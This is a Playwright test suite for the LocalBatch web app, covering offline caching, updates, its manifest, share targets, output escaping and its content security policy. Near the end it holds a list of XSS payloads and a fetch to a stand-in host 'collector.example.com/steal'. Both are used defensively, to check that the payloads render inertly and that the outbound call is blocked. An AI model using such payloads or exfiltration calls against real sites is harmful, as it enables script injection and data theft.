/**
 * The installable, offline app: the service worker, the manifest, the share
 * target and file handler, Share…, and the CSP. The offline and update tests
 * run their own server (scripts/serve.mjs) so they can stop it or swap the build.
 */
import { expect, test, type Page } from '@playwright/test';
import { spawn, type ChildProcess } from 'node:child_process';
import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { launch, newProfile, removeProfile } from './processes';
import {
  batchFile,
  createJob,
  type PromptFile,
  exportAs,
  waitForCompleted,
  withoutRunIds
} from './helpers';

const BUILD = new URL('../../build', import.meta.url).pathname;

interface Server {
  url: string;
  stop(): Promise<void>;
}

/** Serves `root` on `port` until stopped. */
async function serve(root: string, port: number): Promise<Server> {
  const child: ChildProcess = spawn(process.execPath, ['scripts/serve.mjs'], {
    env: { ...process.env, PORT: String(port), ROOT: root },
    stdio: ['ignore', 'pipe', 'inherit']
  });
  await new Promise<void>((resolve, reject) => {
    child.stdout?.on('data', (chunk: Buffer) => {
      if (chunk.toString().includes('is served on')) resolve();
    });
    child.once('exit', (code) => reject(new Error(`the server exited with ${code}`)));
  });
  return {
    url: `http://localhost:${port}`,
    stop: () =>
      new Promise<void>((resolve) => {
        if (child.exitCode !== null || child.signalCode !== null) return resolve();
        child.once('exit', () => resolve());
        child.kill();
      })
  };
}

/** Waits until the service worker has installed and controls the page. */
async function waitForServiceWorker(page: Page) {
  // A synchronous predicate: waitForFunction takes a returned promise as a truthy value.
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
}

/** A port per Playwright worker, so parallel tests never share a server. */
function portFor(index: number, offset: number) {
  return 4360 + index * 4 + offset;
}

test('after one visit the app works with the server stopped: jobs, results, a new job and its export', async ({
  page
}, info) => {
  const server = await serve(BUILD, portFor(info.workerIndex, 0));
  let stopped = false;
  try {
    await page.goto(server.url + '/');
    await waitForServiceWorker(page);
    // This test's server is another origin than the suite's: its own job, imported here.
    await page.goto(server.url + '/?engine=simulated&tokenDelayMs=0');
    await page.getByLabel('Prompt file').setInputFiles(batchFile(6, 'before.jsonl'));
    await page.getByRole('button', { name: 'Create job', exact: true }).click();
    await page.waitForURL(/\/jobs\/[^/]+$/);
    const firstJob = page.url();
    await page.getByRole('button', { name: 'Start', exact: true }).click();
    await waitForCompleted(page, 6);
    const before = await exportAs(page, 'OpenAI batch output (.jsonl)');

    // The app cache holds the app and nothing else: the shell, the built chunks (the workers'
    // too, WebLLM's library among them) and the static files; never a model file.
    const cached = await page.evaluate(async () => {
      const names = await caches.keys();
      const app = names.find((name) => name.startsWith('localbatch-app-'));
      const requests = app ? await (await caches.open(app)).keys() : [];
      return { names, urls: requests.map((r) => r.url) };
    });
    expect(cached.names).toHaveLength(1);
    const paths = cached.urls.map((url) => new URL(url).pathname);
    expect(cached.urls.every((url) => url.startsWith(server.url + '/'))).toBe(true);
    const workerChunks = JSON.parse(await readFile(join(BUILD, 'worker-chunks.json'), 'utf8'));
    expect(workerChunks.length).toBeGreaterThanOrEqual(2);
    expect(paths).toEqual(expect.arrayContaining(['/', '/manifest.webmanifest', ...workerChunks]));
    expect(
      paths.filter((path) => /\.(bin|wasm)$|resolve\/main|ndarray-cache|tensor-cache/.test(path))
    ).toEqual([]);

    await server.stop();
    stopped = true;
    // The network is really gone: a file the service worker does not hold fails.
    expect(
      await page.evaluate(() =>
        fetch('/_app/version.json', { cache: 'no-store' }).then(
          () => 'reached',
          () => 'unreachable'
        )
      )
    ).toBe('unreachable');

    await page.reload();
    await expect(page.getByRole('heading', { name: 'before' })).toBeVisible();
    await expect(page.getByTestId('count-done')).toHaveText('6');
    expect(withoutRunIds((await exportAs(page, 'OpenAI batch output (.jsonl)')).text)).toBe(
      withoutRunIds(before.text)
    );

    await page.goto(server.url + '/');
    await expect(page.getByRole('link', { name: 'before' })).toBeVisible();
    await page.goto(server.url + '/?engine=simulated&tokenDelayMs=0');
    await page.getByLabel('Prompt file').setInputFiles(batchFile(4, 'offline.jsonl'));
    await page.getByRole('button', { name: 'Create job', exact: true }).click();
    await page.waitForURL(/\/jobs\/[^/]+$/);
    expect(page.url()).not.toBe(firstJob);
    await page.getByRole('button', { name: 'Start', exact: true }).click();
    await waitForCompleted(page, 4);
    const offline = await exportAs(page, 'CSV (.csv)');
    expect(offline.name).toBe('offline-results.csv');
    expect(Papa.parse(offline.text.trim(), { header: true }).data).toHaveLength(4);
  } finally {
    if (!stopped) await server.stop();
  }
});

/** Every text file of a build copy with its version replaced: a second release. */
async function release(dir: string, from: string, to: string) {
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile() || !/\.(js|json|html)$/.test(entry.name)) continue;
    const path = join(entry.parentPath, entry.name);
    const text = await readFile(path, 'utf8');
    if (text.includes(from)) await writeFile(path, text.replaceAll(from, to));
  }
}

test('a new version is detected and offered; Reload switches to it; an older tab keeps its files until it reloads', async ({
  page
}, info) => {
  const port = portFor(info.workerIndex, 1);
  const dir = await mkdtemp(join(tmpdir(), 'localbatch-update-'));
  const [v1, v2] = [join(dir, 'v1'), join(dir, 'v2')];
  await cp(BUILD, v1, { recursive: true });
  await cp(BUILD, v2, { recursive: true });
  const sw = await readFile(join(v1, 'service-worker.js'), 'utf8');
  const version = /`(\d{10,})`/.exec(sw)?.[1];
  expect(version).toBeTruthy();
  const [oldCache, newCache] = [`localbatch-app-${version}`, `localbatch-app-9${version}`];
  await release(v2, version!, '9' + version!);
  // In a real release the chunks get new names; here the Models page's chunk is gone from v2,
  // so only the old version's cache has it.
  const nodes = join(v2, '_app', 'immutable', 'nodes');
  let modelsChunk = '';
  for (const name of await readdir(nodes)) {
    if ((await readFile(join(nodes, name), 'utf8')).includes('Mirror base URL')) modelsChunk = name;
  }
  expect(modelsChunk).not.toBe('');
  await rm(join(nodes, modelsChunk));
  const sw2 = await readFile(join(v2, 'service-worker.js'), 'utf8');
  const entry = new RegExp(
    'e\\+`/_app/immutable/nodes/' + modelsChunk.replaceAll('.', '\\.') + '`,?'
  );
  expect(sw2).toMatch(entry);
  await writeFile(join(v2, 'service-worker.js'), sw2.replace(entry, ''));
  const cacheNames = () => page.evaluate(() => caches.keys());

  let server = await serve(v1, port);
  try {
    await page.goto(server.url + '/');
    await waitForServiceWorker(page);
    await expect(page.getByText('A new version is ready.')).toHaveCount(0);
    expect(await cacheNames()).toEqual([oldCache]);
    // A second tab on the same version, left alone throughout.
    const other = await page.context().newPage();
    await other.goto(server.url + '/settings');
    await waitForServiceWorker(other);

    await server.stop();
    server = await serve(v2, port);
    // The page was left open (overnight, say) and comes back to the front: it asks for updates.
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
    await expect(page.getByText('A new version is ready.')).toBeVisible();
    // It waits for the user: the old version still serves the pages.
    expect(await cacheNames()).toEqual(expect.arrayContaining([oldCache, newCache]));
    await page.getByRole('button', { name: 'Reload', exact: true }).click();
    await expect(page.getByText('A new version is ready.')).toHaveCount(0);
    await expect.poll(() => other.getByText('A new version is ready.').count()).toBe(1);

    // The other tab still runs the old code: its files stay, and it still works from them
    // (with the server gone, so only the caches can answer).
    await page.waitForTimeout(500);
    expect(await cacheNames()).toContain(oldCache);
    await server.stop();
    await other.getByRole('link', { name: 'Models' }).click();
    await expect(other.getByRole('heading', { name: 'Models', level: 1 })).toBeVisible();

    // Once it reloads into the new version too, the old files go.
    await other.getByRole('button', { name: 'Reload', exact: true }).click();
    await expect(other.getByText('A new version is ready.')).toHaveCount(0);
    await expect.poll(cacheNames).toEqual([newCache]);
  } finally {
    await server.stop();
    await rm(dir, { recursive: true, force: true });
  }
});

interface PngSize {
  width: number;
  height: number;
}

function pngSize(bytes: Buffer): PngSize {
  expect(bytes.subarray(1, 4).toString('latin1')).toBe('PNG');
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) };
}

test("the manifest is valid and installable by Chrome's own check, with its icons, file handlers and share target", async ({
  page,
  request
}) => {
  await page.goto('/');
  const manifest = await (await request.get('/manifest.webmanifest')).json();
  expect(manifest).toMatchObject({
    name: 'LocalBatch',
    short_name: 'LocalBatch',
    start_url: '/',
    display: 'standalone',
    theme_color: '#1d4ed8',
    share_target: {
      action: '/share-target',
      method: 'POST',
      enctype: 'multipart/form-data'
    }
  });
  expect(manifest.description.length).toBeGreaterThan(40);
  const icons = manifest.icons as { src: string; sizes: string; type: string; purpose: string }[];
  expect(icons.map((i) => [i.sizes, i.purpose])).toEqual([
    ['any', 'any'],
    ['192x192', 'any'],
    ['512x512', 'any'],
    ['512x512', 'maskable']
  ]);
  for (const icon of [...icons, ...manifest.screenshots]) {
    const response = await request.get(icon.src);
    expect(response.status(), icon.src).toBe(200);
    expect(response.headers()['content-type']).toContain(icon.type);
    if (icon.type === 'image/png') {
      const [width, height] = icon.sizes.split('x').map(Number);
      expect(pngSize(await response.body()), icon.src).toEqual({ width, height });
    }
  }
  expect(manifest.file_handlers[0].accept).toEqual({
    'application/jsonl': ['.jsonl'],
    'text/csv': ['.csv'],
    'text/plain': ['.txt'],
    'application/json': ['.json']
  });

  // Chrome's own parse of the manifest, and its installability check (which needs a real
  // profile: Playwright's default contexts are incognito, where nothing installs).
  const profile = await newProfile();
  const context = await launch(profile);
  try {
    const installPage = context.pages()[0] ?? (await context.newPage());
    await installPage.goto('/');
    await waitForServiceWorker(installPage);
    const cdp = await context.newCDPSession(installPage);
    const parsed = await cdp.send('Page.getAppManifest');
    expect(parsed.errors).toEqual([]);
    expect(parsed.url).toMatch(/\/manifest\.webmanifest$/);
    const installability = await cdp.send('Page.getInstallabilityErrors');
    expect(installability.installabilityErrors).toEqual([]);
  } finally {
    await context.close();
    await removeProfile(profile);
  }
});

/** What a system share sheet does: a multipart POST navigation to the share target. */
async function postShare(page: Page, fields: Record<string, string>, file?: PromptFile) {
  await page.evaluate((values) => {
    const form = document.createElement('form');
    form.id = 'share';
    form.method = 'POST';
    form.action = '/share-target';
    form.enctype = 'multipart/form-data';
    for (const [name, value] of Object.entries(values)) {
      const input = document.createElement('textarea');
      input.name = name;
      input.value = value;
      form.append(input);
    }
    const input = document.createElement('input');
    input.type = 'file';
    input.name = 'file';
    form.append(input);
    document.body.append(form);
  }, fields);
  if (file) await page.locator('#share input[type=file]').setInputFiles(file);
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#share')!.submit());
}

test('shared text (no file) arrives in the import flow as one prompt per line', async ({
  page
}) => {
  await page.goto('/?engine=simulated&tokenDelayMs=0');
  await waitForServiceWorker(page);
  await postShare(page, { title: 'Pairs', text: 'Score pair one.\nScore pair two.\n' });
  await expect(page.getByTestId('arrived')).toHaveText('shared-text.txt was shared to LocalBatch.');
  await expect(page.getByTestId('import-summary')).toHaveText('2 valid prompts.');
  // The address no longer says a share came: a reload does not repeat it.
  expect(new URL(page.url()).search).toBe('');
});

test.describe('before the service worker runs', () => {
  test.use({ serviceWorkers: 'block' });

  test('a share that reaches the server says it did not arrive and what to do', async ({
    page
  }) => {
    await page.goto('/');
    await postShare(page, {}, batchFile(2, 'early.jsonl'));
    await page.waitForURL(/\/share-target$/);
    await expect(page.getByRole('heading', { name: 'Share to LocalBatch' })).toBeVisible();
    await expect(page.getByRole('alert')).toContainText(
      'The shared file did not arrive: LocalBatch was not fully installed in this browser yet'
    );
  });
});

test('a file posted to the share target arrives in the import flow', async ({ page }) => {
  await page.goto('/?engine=simulated&tokenDelayMs=0');
  await waitForServiceWorker(page);
  await postShare(page, {}, batchFile(3, 'shared.jsonl'));
  await expect(page.getByTestId('arrived')).toHaveText('shared.jsonl was shared to LocalBatch.');
  await expect(page.getByTestId('import-summary')).toHaveText('3 valid prompts.');
  await page.getByRole('button', { name: 'Create job', exact: true }).click();
  await page.waitForURL(/\/jobs\/[^/]+$/);
  await expect(page.getByRole('heading', { name: 'shared' })).toBeVisible();
  // Taken once: the parked file is gone.
  expect(
    await page.evaluate(async () => {
      const cache = await caches.open('localbatch-shared');
      return (await cache.keys()).length;
    })
  ).toBe(0);
});

test('a file opened with the installed app (launchQueue) arrives in the import flow', async ({
  page
}) => {
  // Chrome gives launched files to the consumer as FileSystemFileHandles; hold the consumer.
  await page.addInitScript(() => {
    Object.defineProperty(window, 'launchQueue', {
      configurable: true,
      value: {
        setConsumer(consumer: unknown) {
          (window as unknown as { __consumer: unknown }).__consumer = consumer;
        }
      }
    });
  });
  // The window was on another page when the file came: it goes to the import form.
  await page.goto('/settings');
  await page.waitForFunction(() => '__consumer' in window);
  await page.evaluate(async () => {
    const root = await navigator.storage.getDirectory();
    const handle = await root.getFileHandle('opened.csv', { create: true });
    const writable = await handle.createWritable();
    await writable.write('prompt\nfirst\nsecond\n');
    await writable.close();
    const consumer = (window as unknown as { __consumer: (p: unknown) => void }).__consumer;
    consumer({ files: [handle] });
  });
  await expect(page.getByTestId('arrived')).toHaveText('opened.csv was opened with LocalBatch.');
  await expect(page.getByTestId('import-summary')).toHaveText('2 valid prompts.');
  expect(new URL(page.url()).pathname).toBe('/');
});

test('Share… falls back to a download where the browser cannot share files', async ({ page }) => {
  await page.addInitScript(() => {
    Object.defineProperty(navigator, 'canShare', { value: () => false, configurable: true });
  });
  await createJob(page, batchFile(3, 'share me.jsonl'));
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await waitForCompleted(page, 3);
  await page.getByRole('button', { name: 'Share…', exact: true }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: 'CSV (.csv)' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe('share-me-results.csv');
  expect((await readFile(await file.path(), 'utf8')).split('\n')[0]).toContain('custom_id');
  await expect(page.getByTestId('share-outcome')).toHaveText(
    'This browser cannot share share-me-results.csv, so it was downloaded instead.'
  );
});

test('Share… hands the file to the Web Share API where it can share files', async ({ page }) => {
  await page.addInitScript(() => {
    const shared: { name: string; type: string; text: string }[] = [];
    (window as unknown as { __shared: typeof shared }).__shared = shared;
    Object.defineProperty(navigator, 'canShare', {
      value: (data: ShareData) => !!data.files?.every((f) => f.type === 'text/csv'),
      configurable: true
    });
    Object.defineProperty(navigator, 'share', {
      value: async (data: ShareData) => {
        for (const f of data.files ?? [])
          shared.push({ name: f.name, type: f.type, text: await f.text() });
      },
      configurable: true
    });
  });
  await createJob(page, batchFile(2, 'sheet.jsonl'));
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await waitForCompleted(page, 2);
  await page.getByRole('button', { name: 'Share…', exact: true }).click();
  await page.getByRole('menuitem', { name: 'CSV (.csv)' }).click();
  await expect(page.getByTestId('share-outcome')).toHaveText('Shared sheet-results.csv.');
  const shared = await page.evaluate(
    () =>
      (window as unknown as { __shared: { name: string; type: string; text: string }[] }).__shared
  );
  expect(shared.map((f) => [f.name, f.type])).toEqual([['sheet-results.csv', 'text/csv']]);
  expect(Papa.parse(shared[0]!.text.trim(), { header: true }).data).toHaveLength(2);
});

const PAYLOADS = [
  '<img src=x onerror="window.__xss=(window.__xss||0)+1">',
  '<script>window.__xss=(window.__xss||0)+1</script>',
  '<svg onload="window.__xss=(window.__xss||0)+1"></svg>',
  '<iframe src="javascript:window.parent.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">click</a>',
  '<body onload="window.__xss=1">',
  '<details open ontoggle="window.__xss=(window.__xss||0)+1">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '"><img src=x onerror="window.__xss=1">',
  "'><svg/onload=window.__xss=1>",
  '<input autofocus onfocus="window.__xss=(window.__xss||0)+1">',
  '{{constructor.constructor("window.__xss=1")()}}'
];

function payloadFile() {
  const lines = PAYLOADS.map((payload, i) =>
    JSON.stringify({ custom_id: `x-${i + 1}`, prompt: payload })
  );
  return {
    name: 'payloads.jsonl',
    mimeType: 'application/jsonl',
    buffer: Buffer.from(lines.join('\n'))
  };
}

/** Elements a payload would create if it were rendered as HTML (the app itself has none). */
const INJECTED =
  'body img, body iframe, body svg, body details, body math, body input[autofocus], main script';

test.describe('with the CSP bypassed, so only rendering as text can stop a payload', () => {
  test.use({ bypassCSP: true });

  test('prompts and model outputs holding HTML and script payloads show as text and run nothing', async ({
    page
  }) => {
    await page.goto('/?engine=simulated&tokenDelayMs=0&simEcho=1');
    await page.getByLabel('Prompt file').setInputFiles(payloadFile());
    // The import preview shows the first prompts as text.
    await expect(page.getByRole('table')).toContainText(PAYLOADS[0]!);
    await page.getByRole('button', { name: 'Create job', exact: true }).click();
    await page.waitForURL(/\/jobs\/[^/]+$/);
    await page.getByRole('button', { name: 'Start', exact: true }).click();
    await waitForCompleted(page, PAYLOADS.length);

    // Each output quotes its prompt; every one shows as the literal text.
    const results = page.getByRole('list', { name: 'Results' });
    for (const payload of PAYLOADS) await expect(results).toContainText(`You said: ${payload}`);
    for (const index of [0, 2, 7]) {
      await results.getByRole('listitem').nth(index).click();
      const dialog = page.getByRole('dialog');
      await expect(dialog).toContainText(PAYLOADS[index]!);
      await expect(dialog).toContainText(`You said: ${PAYLOADS[index]}`);
      await dialog.getByRole('button', { name: 'Close' }).click();
    }
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
    await expect(page.locator(INJECTED)).toHaveCount(0);

    // The exported file carries them as data too, and the results viewer shows them as text.
    const jsonl = await exportAs(page, 'OpenAI batch output (.jsonl)');
    await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('link', { name: 'Jobs' })
      .click();
    await page.getByRole('link', { name: 'Open results file' }).click();
    await page.getByLabel('Results file').setInputFiles({
      name: 'payloads-results.jsonl',
      mimeType: 'application/jsonl',
      buffer: Buffer.from(jsonl.text)
    });
    for (const payload of PAYLOADS.slice(0, 4)) {
      await expect(page.getByRole('main')).toContainText(`You said: ${payload}`);
    }
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
    await expect(page.locator(INJECTED)).toHaveCount(0);
  });
});

test('the CSP is in the built page, a whole job runs without a violation, and the page cannot reach other hosts', async ({
  page
}) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await createJob(page, payloadFile(), '?engine=simulated&tokenDelayMs=0&simEcho=1');
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await waitForCompleted(page, PAYLOADS.length);
  await page.getByRole('list', { name: 'Results' }).getByRole('listitem').first().click();
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();

  const html = await (await page.request.get('/')).text();
  const csp = /<meta http-equiv="content-security-policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-");
  expect(csp).toContain("connect-src 'self' https://huggingface.co");
  expect(csp).toContain("object-src 'none'");
  expect(csp).not.toContain('unsafe-inline');
  expect(csp).not.toContain("'unsafe-eval'");
  expect(violations).toEqual([]);
  // A worker follows its own response's policy: the server sends the page's with it.
  const chunks: string[] = JSON.parse(await readFile(join(BUILD, 'worker-chunks.json'), 'utf8'));
  const runner = chunks.find((path) => /runner\.worker-/.test(path))!;
  const worker = await page.request.get(runner);
  expect(worker.headers()['content-security-policy']).toBe(csp);
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          resolve(`${event.effectiveDirective} ${event.blockedURI}`)
        );
        fetch('https://collector.example.com/steal').catch(() => undefined);
      })
  );
  expect(blocked).toBe('connect-src https://collector.example.com/steal');
});
